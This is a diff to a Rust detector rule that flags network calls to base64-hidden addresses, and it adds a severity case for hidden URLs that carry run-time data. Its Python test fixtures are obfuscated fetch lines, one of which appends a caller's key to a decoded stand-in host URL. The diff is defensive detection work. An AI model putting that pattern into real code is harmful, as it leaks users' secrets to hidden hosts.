@@ -259,10 +259,14 @@ fn check_hidden_target(
     if !host_like {
         return;
     }
-    // Uploading to an address the code hides is exfiltration whoever calls the function.
+    // Uploading to an address the code hides is exfiltration whoever calls the function; so
+    // is a fetch whose hidden URL carries run-time data (`b64decode(HOST) + key`): the data
+    // leaves in the request line.
+    let carries_data = url.contains(crate::fold::UNKNOWN);
     let severity = match (context, op) {
         (ExecContext::Install | ExecContext::Import, _) => 0.8,
         (ExecContext::Runtime, NetOp::Send) => 0.7,
+        (ExecContext::Runtime, _) if carries_data => 0.7,
         (ExecContext::Runtime, _) => 0.5,
         (ExecContext::TestOrDocs, _) => 0.1,
     };
@@ -270,7 +274,12 @@ fn check_hidden_target(
         &RULE,
         call.range(),
         format!(
-            "contacts `{}`, an address hidden with {decoder}, {}",
+            "{} `{}`, an address hidden with {decoder}, {}",
+            if carries_data {
+                "sends run-time data in the URL of"
+            } else {
+                "contacts"
+            },
             crate::text::shorten(url, 100),
             context.phrase()
         ),
@@ -316,6 +325,9 @@ mod tests {
         let get = "import base64, requests\ndef load():\n    return requests.get(base64.b64decode('aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkL3VwbG9hZA==').decode())\n";
         let fetch = max_severity("p/pkg/m.py", get, "WH130");
         assert!((0.4..0.7).contains(&fetch), "{fetch}");
+        // The same fetch with the caller's data appended to the hidden URL sends that data.
+        let leak = "import base64, requests\ndef check(key):\n    return requests.get(str(base64.b64decode(b'aHR0cDovL2NvbGxlY3QuZXhhbXBsZS5pbnZhbGlkLw=='), encoding='utf-8') + key)\n";
+        assert!(max_severity("p/pkg/m.py", leak, "WH130") >= 0.7);
     }
 
     #[test]
